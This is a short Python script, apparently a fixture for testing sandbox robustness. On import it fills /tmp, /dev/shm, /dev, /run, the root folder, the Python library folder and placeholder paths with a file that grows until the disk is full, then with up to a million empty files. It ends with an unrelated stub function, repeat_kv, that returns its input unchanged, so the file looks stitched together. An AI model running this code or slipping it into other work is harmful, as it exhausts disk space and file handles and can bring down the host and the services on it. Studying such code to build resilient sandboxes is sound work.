"""Fills every folder that it may write to, with one large file and with many empty ones."""
import os


def fill(place):
    try:
        with open(f"{place}/@MARK@-large", "wb", buffering=0) as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
    try:
        for number in range(1_000_000):
            os.close(os.open(f"{place}/@MARK@-{number}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass


for place in ("/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/", "@ROOT@", os.path.dirname("@CANARY@"), os.getcwd(), os.path.dirname(os.__file__)):
    fill(place)


def repeat_kv(x, n_rep):
    return x
